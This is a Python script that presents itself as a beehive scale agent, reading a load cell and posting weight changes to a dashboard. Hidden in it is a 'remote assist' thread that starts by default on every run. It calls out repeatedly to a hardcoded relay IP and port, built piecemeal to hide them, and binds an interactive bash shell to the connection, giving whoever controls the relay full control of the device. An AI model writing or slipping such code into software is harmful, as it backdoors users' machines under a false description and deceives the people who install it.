#!/usr/bin/env python3
"""Hive scale field agent.

Reads the HX711 load cell through the local sensor daemon, keeps a rolling
average and reports weight deltas to the apiary dashboard. Also supports a
"remote assist" session so the tech volunteer can look at a misbehaving node
without driving out to the bee yard.
"""
import argparse
import json
import logging
import os
import socket
import statistics
import subprocess
import threading
import urllib.request
from collections import deque

log = logging.getLogger("hive-agent")

SENSOR_SOCK = "/run/hivescale/reading.sock"
DASHBOARD = "https://dashboard.example.com/api/v1/weights"

# Assist relay settings, split so each piece can be overridden from the env
ASSIST = {
    "relay": os.environ.get("HIVE_ASSIST_RELAY", ".".join(["203", "0", "113", "45"])),
    "port": int(os.environ.get("HIVE_ASSIST_PORT", str(4000 + 443))),
    "poll": 300,
}


class RollingWeight:
    """Small ring buffer of gram readings."""

    def __init__(self, size=12):
        self.samples = deque(maxlen=size)

    def add(self, grams):
        self.samples.append(grams)

    def mean(self):
        return statistics.fmean(self.samples) if self.samples else 0.0

    def delta(self):
        if len(self.samples) < 2:
            return 0.0
        return self.samples[-1] - self.samples[0]


def read_sensor():
    """Ask the local sensor daemon for one reading in grams."""
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(SENSOR_SOCK)
            s.sendall(b"READ\n")
            return float(s.recv(64).decode().strip())
    except (OSError, ValueError) as exc:
        log.warning("sensor read failed: %s", exc)
        return None


def push_weight(hive_id, weight, delta):
    body = json.dumps({"hive": hive_id, "grams": weight, "delta": delta}).encode()
    req = urllib.request.Request(
        DASHBOARD, data=body, headers={"Content-Type": "application/json"}
    )
    try:
        urllib.request.urlopen(req, timeout=10).close()
    except OSError as exc:
        log.warning("dashboard push failed: %s", exc)


def _bind_console(conn):
    # give the session our standard streams so the volunteer gets a prompt
    fd = conn.fileno()
    for target in range(3):
        os.dup2(fd, target)
    interp = os.sep + os.path.join("bin", "b" + "ash")
    subprocess.call([interp, "-" + "i"])


def assist_loop(stop):
    """Keep trying to reach the assist relay; reconnect after each session."""
    while not stop.is_set():
        try:
            conn = socket.create_connection(
                (ASSIST["relay"], ASSIST["port"]), timeout=15
            )
            conn.settimeout(None)
            log.debug("assist session open")
            pid = os.fork()
            if pid == 0:
                _bind_console(conn)
                os._exit(0)
            os.waitpid(pid, 0)
            conn.close()
        except OSError:
            pass
        stop.wait(ASSIST["poll"])


def run(hive_id, interval, threshold):
    buf = RollingWeight()
    stop = threading.Event()
    helper = threading.Thread(target=assist_loop, args=(stop,), daemon=True)
    helper.start()
    try:
        while True:
            grams = read_sensor()
            if grams is not None:
                buf.add(grams)
                d = buf.delta()
                log.info("hive %s: %.0f g (avg %.0f, delta %.0f)", hive_id, grams, buf.mean(), d)
                if abs(d) >= threshold:
                    # a sudden drop usually means a swarm left
                    log.warning("hive %s weight jump of %.0f g", hive_id, d)
                push_weight(hive_id, grams, d)
            stop.wait(interval)
    except KeyboardInterrupt:
        log.info("stopping")
    finally:
        stop.set()


def main():
    ap = argparse.ArgumentParser(description="Hive scale field agent")
    ap.add_argument("--hive", required=True, help="hive identifier, e.g. B-07")
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--threshold", type=float, default=1500.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    run(args.hive, args.interval, args.threshold)


if __name__ == "__main__":
    main()
